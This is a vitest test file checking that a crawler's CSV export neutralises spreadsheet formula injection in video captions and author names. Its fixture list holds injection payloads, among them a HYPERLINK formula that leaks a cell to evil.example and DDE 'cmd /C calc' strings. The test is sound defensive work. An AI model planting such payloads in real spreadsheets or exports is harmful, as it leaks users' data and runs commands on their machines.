import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { hashtagVideos, videos } from '../src/db/schema.js';
import { createRuns } from '../src/db/runs.js';
import { runCli } from './support/cli.js';
import { useCrawlEnvironment } from './support/environment.js';

const HASHTAG = '960001';

/** Captions and names a spreadsheet would run as formulas (OWASP's CSV injection list), and ordinary ones. */
const CAPTIONS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  '=cmd|\' /C calc\'!A0',
  '+1+cmd|\' /C calc\'!A0',
  '-2+3 #math',
  '@mention say hi',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '\uff1d1+1 full-width equals',
  '\uff20fullwidth at',
  'plain caption, with a comma',
  'ends with = + - @',
];

const t = useCrawlEnvironment({ app: true, worker: false });

beforeAll(async () => {
  const db = t.app.database.db;
  await db.insert(videos).values(
    CAPTIONS.map((description, index) => ({
      id: `70000000000000001${String(index).padStart(2, '0')}`,
      authorId: '6000000000000000001',
      authorUniqueId: index % 2 === 0 ? `=author${index}` : `@author${index}`,
      description,
      createTime: new Date('2024-11-30T12:34:56Z'),
      playCount: 1,
      diggCount: 0,
      commentCount: null,
      shareCount: 0,
      collectCount: 0,
      musicId: null,
      raw: { desc: description },
    })),
  );
  await db.insert(hashtagVideos).values(CAPTIONS.map((_, index) => ({ hashtagId: HASHTAG, videoId: `70000000000000001${String(index).padStart(2, '0')}` })));
  await createRuns(db, [{ hashtagId: HASHTAG, maxPages: 1, maxItems: null }]);
});

describe('CSV export against formula injection', () => {
  it('no cell starts with a formula trigger, and every caption is there behind a leading apostrophe', async () => {
    const result = await runCli(['export', HASHTAG, '--format', 'csv'], t.cliEnv());
    expect(result.code).toBe(0);
    const rows = parse(result.stdout, { columns: true }) as Array<Record<string, string>>;
    expect(rows).toHaveLength(CAPTIONS.length);
    for (const row of rows) {
      for (const [column, cell] of Object.entries(row)) {
        expect({ column, cell }).toEqual({ column, cell: expect.not.stringMatching(/^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/) });
      }
    }
    const unescape = (cell: string) => cell.replace(/^'(?=[=+\-@\t\r\uff1d\uff0b\uff0d\uff20])/, '');
    expect(rows.map((row) => unescape(row.description!))).toEqual(CAPTIONS);
    expect(rows.filter((row) => row.description!.startsWith("'")).map((row) => row.description)).toHaveLength(10);
    expect(rows.map((row) => unescape(row.author_unique_id!))).toEqual(CAPTIONS.map((_, index) => (index % 2 === 0 ? `=author${index}` : `@author${index}`)));
    // Ids and counts are untouched: ids are 19 digits exactly as stored.
    expect(rows[0]).toMatchObject({ id: '7000000000000000100', play_count: '1', hashtag_id: HASHTAG });
  });
});
